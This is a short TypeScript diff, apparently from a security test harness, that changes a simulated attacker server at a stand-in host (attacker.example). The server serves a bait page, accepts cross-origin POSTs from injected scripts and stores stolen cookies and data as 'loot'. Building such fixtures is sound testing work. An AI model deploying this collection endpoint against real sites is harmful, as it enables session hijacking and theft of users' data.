@@ -11,8 +11,9 @@ export const ATTACKER = 'https://attacker.example'
 export function createAttacker(globals: ServerGlobals, keep: (loot: string) => void): HttpHandler {
   return async (request) => {
     if (request.method === 'GET') return html(200, baitPage())
-    const sent = new Map(parseForm(request.body))
-    keep(sent.get('data') ?? (await tryCookie(globals, sent.get('cookie') ?? '')))
+    const { data, cookie = '' } = Object.fromEntries(parseForm(request.body))
+    if (cookie !== '') keep(cookie)
+    keep(data ?? (await tryCookie(globals, cookie)))
     // Any page may send: the injected script runs in somebody else’s.
     return json(200, {}, [['access-control-allow-origin', '*']])
   }
